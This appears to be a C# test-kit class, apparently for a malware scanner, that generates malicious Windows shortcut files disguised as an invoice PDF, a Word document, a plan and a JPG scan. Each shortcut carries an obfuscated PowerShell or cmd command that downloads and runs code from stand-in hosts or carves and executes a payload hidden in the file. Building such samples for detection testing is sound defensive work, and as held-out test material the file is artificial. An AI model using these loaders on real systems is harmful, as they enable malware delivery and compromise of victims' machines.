using static ScanHost.TestKit.HeldOut.Eighth.EighthForms;

namespace ScanHost.TestKit.HeldOut.Eighth;

/// <summary>Shortcuts that look like documents and start PowerShell.</summary>
public sealed class ShortcutPowerShell : EighthRound
{
    private const string PowerShell = "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe";

    /// <inheritdoc/>
    public override IEnumerable<(string Name, byte[] Content)> Variants()
    {
        yield return ("Invoice_Nov2026.pdf.lnk", new LinkBuilder().To(PowerShell).With("-WindowStyle Hidden -ExecutionPolicy Bypass -NoProfile -EncodedCommand " + Encoded("$p=\"$env:TEMP\\inv.exe\";(New-Object Net.WebClient).DownloadFile('http://198.51.100.31/inv.exe',$p);Start-Process $p"))
            .Icon("C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe").Environment("%SystemRoot%\\System32\\WindowsPowerShell\\v1.0\\powershell.exe").From("desktop-g9u3k2").Build());
        var decoy = Utf8("%PDF-1.4\n1 0 obj << /Type /Catalog /Pages 2 0 R >> endobj\n2 0 obj << /Type /Pages /Kids [] /Count 0 >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n");
        yield return ("Interview questions.docx.lnk", new LinkBuilder().To("C:\\Windows\\System32\\cmd.exe").With("/c powershell -windowstyle hidden $dirPath = Get-Location; if($dirPath -Match 'System32' -or $dirPath -Match 'Program Files') {$dirPath = 'C:\\Users'}; $lnkpath = Get-ChildItem -Path $dirPath -Recurse *.lnk | where-object {$_.length -eq 0x0000A7E3} | Select-Object -ExpandProperty FullName; $f = gc $lnkpath -Encoding Byte -TotalCount 42979 -ReadCount 42979; $p=$env:temp+'\\q.docx'; sc $p ([byte[]]($f | select -Skip 00001996)) -Encoding Byte; ^& $p; $e=$env:public+'\\search.dat'; sc $e ([byte[]]($f | select -Skip 008712)) -Encoding Byte; ^& iex ([IO.File]::ReadAllText($e))")
            .Icon("%ProgramFiles%\\Microsoft Office\\Office16\\WINWORD.EXE").Append([.. decoy, .. Turned(Noise(40000, 3), 0x37)]).Build());
        yield return ("Plan.lnk", new LinkBuilder().To("C:\\Windows\\System32\\conhost.exe").With(new string(' ', 260) + "--headless cmd /V:ON /c \"set q=po!z!wers!z!hell&set z=&call !q! -no''p -w 1 $a='ht'+'tps://plan-sheet';$a+='.example/p';&(gcm i?x)(&(gcm i?m) $a)\"").Icon("shell32.dll").Build());
        yield return ("Scan_0091.jpg.lnk", new LinkBuilder().To(PowerShell).With(string.Concat(Enumerable.Repeat("\r\n\t", 90)) + "-c $x='68.74.74.70.3a.2f.2f.31.39.32.2e.30.2e.32.2e.34.2f.6a'.split('.')|%{[char][convert]::toint16($_,16)};.(\"{1}{0}\" -f 'x','ie')((New-Object (\"Net.Web{0}\" -f 'Client')).(\"Down{0}\" -f 'loadString').Invoke(-join $x))").Icon("C:\\Windows\\System32\\imageres.dll").From("win-5nq2").Build());
    }
}
